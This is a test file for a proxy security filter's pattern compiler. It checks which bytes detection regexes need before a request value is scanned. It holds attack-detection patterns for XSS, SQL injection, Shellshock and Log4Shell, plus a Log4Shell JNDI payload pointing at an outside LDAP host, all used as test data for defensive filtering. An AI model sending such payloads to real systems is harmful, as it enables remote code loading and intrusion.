"""What patterns need: never more than RE2 does, and enough of it that most values need not be handed over."""

from __future__ import annotations

import pytest
import re2
from hypothesis import example, given
from hypothesis import strategies as st

from proxyguard.policy.compile.needed_bytes import MAX_DEPTH, needed_bytes, rare_bytes
from proxyguard.policy.compile.pattern_set import compile_pattern, pattern_of
from proxyguard.policy.compile.text_index import TextIndex
from proxyguard.policy.error import PolicyError
from proxyguard.policy.model import TextKind
from tests.paths import BUNDLED_RULES

BYTES = b"<{(%$\"'ab1. -\\\xc3"


@pytest.mark.parametrize(
    ("patterns", "needed"),
    [
        ([rb"<script"], b"<"),
        ([rb"a<b>c"], b"<"),
        ([rb"(?i)(?:\$|%24)\{"], b"{"),
        ([rb"(?:\$|%24)(?:\{|%7b)"], b"$%"),
        ([rb"\(\)\s*\{[^}]*\}\s*;", rb"<"], b"(<"),
        ([rb"<+", rb"'{2,3}?"], b"'<"),
        ([rb"(?P<name>\x3c)"], b"<"),
        ([rb"a{<"], b"{"),
        *(([pattern], b"") for pattern in (
            rb"", rb"<*", rb"<?", rb"(?:<)*a", rb"<{0,2}", rb"<|a", rb"(<|)", rb"union.*select", rb"[<>]", rb".", rb"\Q<\E",
            rb"\pL", rb"\x{3c}", rb"\074", rb"(?#<)", rb"\C<", rb"<**", rb"(<", rb"<)", b"\xe9",
            b"(" * (MAX_DEPTH + 2) + b"<",
        )),
    ],
)  # fmt: skip
def test_the_bytes_that_patterns_need(patterns: list[bytes], needed: bytes) -> None:
    assert needed_bytes(patterns) == needed


@pytest.mark.parametrize(
    ("texts", "rare"),
    [
        ([b";", b".php/", b".jsp/"], b".;"),
        ([b"a.b~c"], b"~"),
        ([b"=", b"\0"], b"\0="),
        *(([*texts], b"") for texts in ((), (b"",), (b"select",), (b"~", b"a/b"), (b"\xe9",))),
    ],
)
def test_texts_are_looked_for_by_a_rare_byte_of_each(texts: list[bytes], rare: bytes) -> None:
    assert rare_bytes(texts) == rare


PIECES = st.recursive(
    st.one_of(
        st.sampled_from(
            rb"\. \x3c \x3C [<{] [^<] []<] [[:alpha:]<] [\]<] \s \W . ^ \b \Q< \E \x{3c} \p{L} \pN (?i) (?s-i) (?U) { }".split()
        ),
        st.sampled_from([bytes([byte]) for byte in b"<{%'a1,"]),
    ),
    lambda inner: st.one_of(
        st.builds(b"%b%b".__mod__, st.tuples(inner, st.sampled_from(b"* + ? {0} {1,} {0,2} {2} *? +?".split()))),
        st.builds(b"%b%b".__mod__, st.tuples(inner, inner)),
        st.builds(b"(%b)".__mod__, inner),
        st.builds(b"(?:%b|%b)".__mod__, st.tuples(inner, inner)),
        st.builds(b"(?i:%b)".__mod__, inner),
        st.builds(b"(?P<n>%b)".__mod__, inner),
        st.builds(b"%b|%b".__mod__, st.tuples(inner, inner)),
    ),
    max_leaves=6,
)  # fmt: skip


@given(PIECES, st.lists(st.sampled_from([bytes([byte]) for byte in BYTES]), max_size=6).map(b"".join))
@example(rb"\Q<\E", b"\\Q<")
@example(rb"(?i:<K)", b"<k")
def test_a_text_in_which_a_pattern_is_found_has_what_it_needs(pattern: bytes, text: bytes) -> None:
    needed = needed_bytes([pattern])
    if not needed:
        return
    try:
        found = compile_pattern(pattern).search(text)
    except PolicyError:
        return
    assert found is None or set(needed) & set(text)


@given(st.sampled_from(list(TextKind)), st.binary(max_size=6), st.binary(max_size=8), st.binary(max_size=3))
def test_texts_of_every_kind_are_found_that_have_what_they_need(kind: TextKind, text: bytes, before: bytes, after: bytes) -> None:
    if kind is TextKind.REGEX:
        text = re2.escape(text)
    needed = needed_bytes([pattern_of(kind, text)])
    value = before + text + after
    if needed and compile_pattern(pattern_of(kind, text)).search(value) is not None:
        assert set(needed) & set(value)


def test_usual_addresses_are_not_handed_to_the_patterns_of_the_bundled_rules() -> None:
    rules = (BUNDLED_RULES / "30-scanners.yaml").read_text()
    start = rules.index("exploits: [") + len("exploits: ")
    patterns = [each.strip("'").encode() for each in rules[start + 1 : rules.index("]\n", start)].split("', '")]
    index = TextIndex([(TextKind.REGEX, pattern, 7) for pattern in patterns])
    assert not index._may_find(b"https://example.org/profiles/17?page=2&sort=name")
    assert set(index.find(b"/?x=${jndi:ldap://198.51.100.9/a}")) == {7}
